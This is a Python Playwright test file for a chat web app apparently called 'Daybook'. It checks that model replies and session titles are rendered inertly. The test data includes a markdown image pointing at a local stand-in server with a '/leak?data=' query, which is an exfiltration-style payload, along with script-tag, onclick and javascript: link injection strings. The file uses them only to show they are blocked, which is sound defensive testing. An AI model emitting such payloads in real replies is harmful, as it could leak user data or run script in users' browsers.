"""What people and models write is shown, never obeyed."""

import re
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from threading import Thread

import pytest
from playwright.sync_api import expect

from tests.pages.browser.conftest import Tab
from tests.support.messages_api import Match, ScriptedApi, text_reply


class Stranger(HTTPServer):
    """A server elsewhere, which notes what is fetched from it."""

    def __init__(self) -> None:
        self.fetched: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)
        self.url = f"http://127.0.0.1:{self.server_port}"


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Stranger)
        self.server.fetched.append(self.path)
        self.send_error(404)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    with Stranger() as server:
        thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def test_an_image_in_a_models_text_is_not_fetched(
    tab: Tab, model: ScriptedApi, stranger: Stranger
) -> None:
    words = f"Look: ![plan]({stranger.url}/leak?data=42) done"
    model.add(text_reply(words, when=Match(contains="draw me a leak")))
    chat = tab()
    said: list[str] = []
    chat.page.on("console", lambda message: said.append(message.text))
    chat.ask("draw me a leak")
    expect(chat.answer).to_contain_text("done")
    expect(chat.answer.locator("img[alt=plan]")).to_be_attached()
    chat.page.wait_for_load_state("networkidle")
    assert any("Content Security Policy" in text for text in said)
    assert stranger.fetched == []


def test_html_in_a_models_text_is_text(tab: Tab, model: ScriptedApi) -> None:
    words = (
        "<script>document.title='owned'</script>"
        "<b onclick=alert(1)>bold</b> [x](javascript:alert(1))"
    )
    model.add(text_reply(words, when=Match(contains="give me html")))
    chat = tab()
    chat.ask("give me html")
    expect(chat.answer).to_contain_text("<b onclick=alert(1)>")
    assert chat.answer.locator("b, script").count() == 0
    assert chat.answer.locator("a[href^=javascript]").count() == 0
    expect(chat.page).to_have_title("Daybook")


TITLES = (
    "**bold** _it_ `code` ~~no~~ [x](http://e.org) ![i](http://e.org/i.png)",
    ":red[red] :smile: :material/home: :material_home: :streamlit: :+1: 10:100:20",
    "$x^2$ and $$y$$ :red-badge[no] :small[s]",
    "<b>html</b> &amp; a -> b <- c -- d >= e <= f <-> g ~= h",
    "# one",
    "1. one",
    "- one",
    "> one",
    "http://example.org/a_b_c",
    "back\\slash \\* \\n",
    "מה שלומך - 你好",
)


def test_titles_are_shown_as_they_are(tab: Tab, model: ScriptedApi) -> None:
    model.add(text_reply("Hello", when=Match(contains="a title please")))
    chat = tab()
    row = chat.sidebar.locator(f'[data-session="{chat.ask("a title please")}"]')
    for title in TITLES:
        chat.rename(title)
        expect(row).to_have_text(re.compile(f"^{re.escape(title)}\\s*now$"))
        marks = "img, a, strong, em, code, del, .katex, [role=img], .stMarkdownBadge"
        expect(row.locator(marks)).to_have_count(0)
